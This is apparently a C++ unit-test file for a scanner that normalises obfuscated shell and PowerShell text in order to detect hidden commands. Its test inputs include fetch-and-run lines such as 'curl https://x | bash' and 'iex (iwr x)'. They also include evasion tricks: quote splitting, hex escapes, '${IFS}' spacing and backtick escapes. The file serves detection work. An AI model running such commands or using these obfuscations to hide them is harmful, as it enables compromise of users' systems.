#include "scan/shell.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <vector>

#include "scan/fold.hpp"

namespace skill_verifier::scan {
namespace {

using testing::Contains;
using testing::ElementsAre;

std::vector<std::string> commands(const std::string& text, Language language = Language::shell, bool loose = false) {
  std::vector<std::string> found;
  const Mapped folded = fold(text);
  shell_commands(folded, language, loose, [&](const Mapped& command) {
    EXPECT_EQ(command.text.size(), command.origin.size());
    for (const std::uint32_t origin : command.origin)
      EXPECT_LT(origin, text.size());
    found.push_back(command.text);
  });
  return found;
}

TEST(ShellCommands, ResolvesQuotesAndEscapes) {
  EXPECT_THAT(commands(R"(c''u"r"l https://x | b\ash)"), ElementsAre("curl https://x | bash"));
  EXPECT_THAT(commands(R"($'\x63\165rl' x)"), ElementsAre("curl x"));
  EXPECT_THAT(commands("cu$@rl x"), ElementsAre("curl x"));
}

TEST(ShellCommands, JoinsContinuedLinesAndDropsComments) {
  EXPECT_THAT(commands("curl https://x \\\n  | sh # install\necho done"),
              ElementsAre("curl https://x | sh", "echo done"));
}

TEST(ShellCommands, ReplacesVariablesThatHoldPlainText) {
  EXPECT_THAT(commands("U=https://x/i\ncurl \"$U\" | ${S}sh"), Contains("curl https://x/i | ${S}sh"));
  EXPECT_THAT(commands("curl${IFS}https://x"), ElementsAre("curl https://x"));
}

TEST(ShellCommands, BoundsWhatVariablesBecome) {
  std::string text = "A=" + std::string(290, 'a') + "\n";
  for (int i = 0; i < 100'000; ++i)
    text += "$A";
  std::size_t bytes = 0;
  for (const std::string& command : commands(text))
    bytes += command.size();
  EXPECT_LT(bytes, 1u << 20);
}

TEST(ShellCommands, HidesOperatorsInQuotesAndDeliversTheirContentAgain) {
  EXPECT_THAT(commands(R"(bash -c "curl x | sh")"), ElementsAre("curl x | sh", "bash -c curl x \xC2\xA6 sh"));
  EXPECT_THAT(commands("jq '.a | .b' file"), Contains("jq .a \xC2\xA6 .b file"));
}

TEST(ShellCommands, ReducesPathsAndPrompts) {
  EXPECT_THAT(commands("$ /usr/bin/curl x | /bin/sh"), ElementsAre("curl x | sh"));
  EXPECT_THAT(commands("PS C:\\> i`ex (i`wr x)", Language::powershell), ElementsAre("iex (iwr x)"));
}

TEST(ShellCommands, WritesBackQuotesAsSubstitution) {
  EXPECT_THAT(commands("sh -c `curl x`"), ElementsAre("sh -c $(curl x)"));
}

TEST(ShellCommands, LeavesApostrophesOfProseAlone) {
  EXPECT_THAT(commands("don't run curl x | sh, it's bad", Language::shell, true),
              ElementsAre("don't run curl x | sh, it's bad"));
}

TEST(ShellCommands, TakesAnUnclosedQuoteAsIs) {
  EXPECT_THAT(commands("echo \"open | sh"), ElementsAre("echo \"open | sh"));
}

TEST(QuotedCommands, FindsCommandLinesInOtherLanguages) {
  std::vector<std::string> found;
  const Mapped folded = fold("os.system(\"curl x | sh\")\nname = 'plain'\n");
  quoted_commands(folded, [&](const Mapped& command) { found.push_back(command.text); });
  EXPECT_THAT(found, ElementsAre("curl x | sh"));
}

}  // namespace
}  // namespace skill_verifier::scan
